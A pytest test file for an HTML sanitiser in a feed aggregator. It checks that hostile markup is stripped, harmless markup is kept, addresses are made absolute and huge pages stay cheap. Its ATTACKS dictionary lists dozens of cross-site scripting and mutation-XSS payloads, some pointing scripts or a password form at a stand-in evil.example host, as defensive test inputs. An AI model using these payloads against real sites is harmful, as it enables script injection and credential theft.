"""Strangers' HTML: nothing dangerous survives, nothing harmless is lost, and no page costs much."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from aggregator.html import (
    Anchor,
    Block,
    Span,
    elements,
    plain_text,
    read_blocks,
    sanitise,
    sanitised_text,
)
from aggregator.html.monstrous import MAX_DEPTH

BASE = "https://blog.example.org/2024/tide"

# ---------------------------------------------------------------- nothing dangerous survives

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script around a stand-in": "<scr<noscript>ipt>alert(1)</scr</noscript>ipt>",
    "script in a stand-in": "<noscript><script>alert(1)</script></noscript>",
    "stand-in in an attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "script in a frame": "<iframe><script>alert(1)</script></iframe>",
    "handler": '<img src="x" onerror="alert(1)">',
    "handler after a slash": "<img/onerror=alert(1)/src=x>",
    "handler in capitals": '<p OnClick="alert(1)">x</p>',
    "handler on a details": "<details open ontoggle=alert(1)>",
    "handler on a video": "<video><source onerror=alert(1)></video>",
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript with blanks": '<a href="  java\tscr\nipt:alert(1)">x</a>',
    "javascript with a control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript by entity": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript by entity tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "javascript as a picture": '<img src="javascript:alert(1)">',
    "javascript as a poster": '<video poster="javascript:alert(1)">',
    "javascript as a citation": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "javascript in srcset": '<img srcset="javascript:alert(1) 1x, javascript:alert(2) 2x">',
    "javascript in a form": '<form action="javascript:alert(1)">',
    "javascript in a button": '<form><button formaction="javascript:alert(1)">',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style attribute": '<p style="position:fixed;background:url(//evil.example)">x</p>',
    "style expression": '<p style="width:expression(alert(1))">x</p>',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="x.class"></applet>',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/></a>',
    "svg use": '<svg><use href="data:image/svg+xml,x#x"/></svg>',
    "svg foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "mutation through math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation through svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation through noembed": '<noembed><img title="</noembed><img src onerror=alert(1)>">',
    "mutation through a template": "<template><img src=x onerror=alert(1)></template>",
    "mutation through select": "<select><noembed></select><script>alert(1)</script></select>",
    "mutation through textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "mutation through a title": '<title><img title="</title><img src=x onerror=alert(1)>">',
    "mutation through xmp": '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mutation through plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "unclosed": '<img src=x onerror="alert(1)"',
    "null byte": "<scr\0ipt>alert(1)</scr\0ipt>",
}

HARMLESS_ATTRIBUTES = frozenset(
    """
    abbr align alt axis char charoff cite class colspan controls datetime dir headers height href
    hreflang id kind label lang loading loop media name open poster preload rel reversed rowspan
    scope size sizes span src srclang srcset start summary title type value width
    """.split()
)
DANGEROUS = frozenset(
    """
    script style iframe frame object embed applet base link meta form input button svg math template
    noscript select textarea
    """.split()
)
ADDRESSES = frozenset({"href", "src", "poster", "cite"})
SCHEME = re.compile(r"(https?|mailto|tel|magnet|ircs?|xmpp|geo):", re.IGNORECASE)


def assert_harmless(clean: str) -> None:
    """Reads `clean` as a browser does, and allows only what is on the lists above."""
    tree = LexborHTMLParser(clean)
    assert tree.body is not None
    for node in tree.body.traverse(include_text=False):
        assert node.tag not in DANGEROUS
        for name, value in node.attributes.items():
            assert name in HARMLESS_ATTRIBUTES
            if name in ADDRESSES:
                assert SCHEME.match(value or "") or (value or "").startswith("#")
            if name == "srcset":
                assert all(SCHEME.match(part.strip()) for part in (value or "").split(", "))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("base", [BASE, None])
def test_no_attack_survives(attack: str, base: str | None) -> None:
    clean = sanitise(attack, base)
    assert_harmless(clean)
    assert sanitise(clean, base) == clean


TORN = ["<p>", "</p>", "<b>", "<svg>", "<math>", "<!--", "-->", '"', "'", ">", "<", "</", "<style>",
        "</style>", "<table>", "word"]  # fmt: skip
PIECES = st.sampled_from([*ATTACKS.values(), *TORN])


@settings(deadline=None, max_examples=150)
@given(st.lists(PIECES, max_size=6).map("".join))
def test_no_mixture_of_attacks_survives(html: str) -> None:
    assert_harmless(sanitise(html, BASE))


# ---------------------------------------------------------------- nothing harmless is lost


@pytest.mark.parametrize(
    "html",
    [
        "<p>One <em>two</em> <strong>three</strong> <code>four</code></p>",
        '<table><caption>c</caption><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><td colspan="2">b</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>',
        "<pre><code>if a &lt; b:\n    pass\n</code></pre>",
        '<p>Word<sup id="ref1"><a href="#note1">1</a></sup></p>'
        '<ol><li id="note1">Note <a href="#ref1">↩</a></li></ol>',
        '<figure><img src="https://a.example/x.png" alt="x"><figcaption>h</figcaption></figure>',
        "<ruby>鷺<rp>(</rp><rt>さぎ</rt><rp>)</rp></ruby>",
        '<p dir="rtl" lang="he">שלום <bdi>x</bdi> <bdo dir="ltr">y</bdo></p>',
        '<video controls="" poster="https://a.example/p.jpg"><source src="https://a.example/v.mp4" '
        'type="video/mp4"><track src="https://a.example/v.vtt" kind="captions"></video>',
        '<audio src="https://a.example/a.mp3" controls=""></audio>',
        '<picture><source srcset="https://a.example/a.webp 2x" type="image/webp">'
        '<img src="https://a.example/a.png"></picture>',
        '<ol start="3" reversed=""><li value="7">x</li></ol>',
        "<dl><dt>a</dt><dd>b</dd></dl>",
        '<blockquote cite="https://a.example/">q</blockquote>',
        '<details open=""><summary>s</summary>x</details>',
        '<time datetime="2024-05-17">May</time> <abbr title="x">y</abbr> <kbd>k</kbd>',
        '<del datetime="2024-05-17">a</del><ins>b</ins><s>c</s><sub>d</sub><wbr><hr><br>',
        '<a href="mailto:a@example.org">m</a> <a href="tel:+1">t</a>',
        '<a class="u-syndication" href="https://a.example/">also</a>',
        "<h1>1</h1><h6>6</h6><section><main><address>x</address></main></section>",
        "a &amp; b &lt; c&nbsp;d — “e”",
    ],
)
def test_what_is_harmless_stays_as_it_is(html: str) -> None:
    assert sanitise(html, BASE) == html


def test_the_text_of_elements_that_go_stays() -> None:
    html = "<font face=x>One</font> <button>two</button> <blink>three</blink>"
    assert sanitise(html, BASE) == "One two three"


def test_what_stands_in_for_a_script_or_a_frame_stays() -> None:
    lazy = '<img data-src="/a.png"><noscript><img src="/a.png"></noscript>'
    assert sanitise(lazy, BASE) == '<img><img src="https://blog.example.org/a.png">'
    player = (
        '<iframe src="https://p.example/"><a href="https://p.example/album">Album</a></iframe>x'
    )
    assert sanitise(player, BASE) == '<a href="https://p.example/album">Album</a>x'


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<a href="/a">x</a>', '<a href="https://blog.example.org/a">x</a>'),
        ('<a href="b?c=1&amp;d=2">x</a>', '<a href="https://blog.example.org/2024/b?c=1&amp;d=2">x</a>'),
        ('<a href="//c.example/">x</a>', '<a href="https://c.example/">x</a>'),
        ('<a href="#note">x</a>', '<a href="#note">x</a>'),
        ('<img src="../d.png">', '<img src="https://blog.example.org/d.png">'),
        ('<img src=" d.png ">', '<img src="https://blog.example.org/2024/d.png">'),
        ('<video poster="/p.jpg"></video>', '<video poster="https://blog.example.org/p.jpg"></video>'),
        ('<q cite="/c">x</q>', '<q cite="https://blog.example.org/c">x</q>'),
        (
            '<img srcset="/a,b.png 1x, c.png 2x,d.png 3x , javascript:alert(1) 4x">',
            '<img srcset="https://blog.example.org/a,b.png 1x, '
            'https://blog.example.org/2024/c.png 2x, https://blog.example.org/2024/d.png 3x">',
        ),
        ('<img srcset="/a.png 480w, /b.png">',
         '<img srcset="https://blog.example.org/a.png 480w, https://blog.example.org/b.png">'),
    ],
)  # fmt: skip
def test_addresses_are_made_absolute(html: str, clean: str) -> None:
    assert sanitise(html, BASE) == clean


def test_without_a_base_relative_addresses_go_and_the_words_stay() -> None:
    assert sanitise('<a href="/a">x</a><img src="b.png" alt="y">', None) == '<a>x</a><img alt="y">'


# ---------------------------------------------------------------- no page costs much


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "deep",
        "<p>" + "".join(f"<b id={n}>" for n in range(500)) + "</p>" + "<p>deep" * 5000,
        "&a" * 500_000 + "deep",
        "<iframe " * 50_000 + "> deep",
        "<noscript>" * 50_000 + "deep",
        "<select>" + "<option>" * 50_000 + "</select>deep",
    ],
    ids=["depth", "formatting", "references", "frames", "stand-ins", "options"],
)
def test_monstrous_markup_keeps_its_words_only(html: str) -> None:
    clean = sanitise(html, BASE)
    assert len(clean) < 5 * len(html)
    assert clean.count("<") < MAX_DEPTH
    assert plain_text(clean).endswith("deep")


def test_markup_as_deep_as_allowed_is_kept() -> None:
    html = "<div>" * MAX_DEPTH + "x" + "</div>" * MAX_DEPTH
    assert sanitise(html, BASE) == html


def test_elements_that_close_each_other_are_not_deep() -> None:
    html = "<ul>" + "<li>x" * 3000 + "</ul>" + "<p>y" * 3000
    assert sanitise(html, BASE).count("<li>") == 3000


def test_a_long_run_of_text_is_read_in_one_piece() -> None:
    html = "<p>" + "reed <br> " * 100_000
    assert len(plain_text(html)) == 5 * 100_000 - 1


# ---------------------------------------------------------------- reading


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("One two", "One two"),
        ("  One\n two ", "One two"),
        ("One\n\nTwo", "One\n\nTwo"),
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("One<br>two", "One two"),
        ("<b>O</b>ne", "One"),
        ("a &amp; b &lt; c", "a & b < c"),
        ("<script>x</script><style>y</style>z", "z"),
        ("<ul><li>a<li>b</ul>", "a\n\nb"),
        ("<!-- x -->y", "y"),
        ("", ""),
        ("<img src=x>", ""),
    ],
)
def test_html_as_plain_text(html: str, text: str) -> None:
    assert plain_text(html) == text


SOUP = st.sampled_from(
    [f"<{slash}{name}>" for slash in ("", "/") for name in
     "a b br button caption center div li math menu mi object option p pre rt select svg table "
     "tbody td template tr video".split()]
    + ['<p title="a>b<p>">', "<td lang='\"'>", "word", " ", "\n\n", "\x0b", "&nbsp;", "&lt;p&gt;",
       "&amp;lt;", "x>y", '"', "&", "<", "<!-- c -->", "\0"]
)  # fmt: skip


@settings(deadline=None, max_examples=400)
@given(st.lists(SOUP | PIECES, max_size=14).map("".join))
def test_sanitised_html_needs_no_parser_to_be_read(html: str) -> None:
    clean = sanitise(html, BASE)
    assert sanitised_text(clean) == plain_text(clean)


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="<&>\0\r\xa0\ufeff")))
def test_text_without_markup_is_the_same_beside_markup(text: str) -> None:
    assert sanitise(text, BASE) == text
    assert sanitise("<i>x</i>" + text, BASE) == "<i>x</i>" + text


def test_blocks_know_their_links_and_emphasis_by_place() -> None:
    html = '<p>See <a href="/x" rel="me" class="u-url big"> my <i>piece</i> </a>.</p>'
    (block,) = read_blocks(html, BASE)
    anchor = Anchor(4, 12, "https://blog.example.org/x", "me", ("u-url", "big"))
    assert block == Block("See my piece .", "p", False, (anchor,), (Span(7, 12, "i"),))
    assert block.text[anchor.start : anchor.end] == "my piece"


def test_a_quotation_and_an_empty_link_are_told() -> None:
    blocks = read_blocks('<blockquote><p>q</p></blockquote><p><a href="/x"><img></a></p>', BASE)
    assert [(block.text, block.quoted) for block in blocks] == [("q", True), ("", False)]
    assert blocks[1].anchors[0].url == "https://blog.example.org/x"


PARTS = ["<p>", "</p>", "<a href=/x>", "</a>", "<i>", "</i>", " ", "word", "\n", "<br>", "<div>"]


@settings(deadline=None, max_examples=100)
@given(st.lists(st.sampled_from(PARTS), max_size=25).map("".join))
def test_places_are_always_within_the_text_and_never_begin_with_a_blank(html: str) -> None:
    for block in read_blocks(html, BASE):
        assert block.text == block.text.strip(" ")
        places = [(part.start, part.end) for part in block.anchors]
        places += [(part.start, part.end) for part in block.spans]
        for start, end in places:
            assert 0 <= start <= end <= len(block.text)
            assert block.text[start:end].strip(" ") == block.text[start:end]


def test_elements_of_a_page_by_selector() -> None:
    html = '<head><link rel=canonical href="/x"><title> A  b </title></head>'
    assert list(elements(html, "link[rel=canonical]")) == [({"rel": "canonical", "href": "/x"}, "")]
    assert list(elements(html, "title")) == [({}, "A b")]
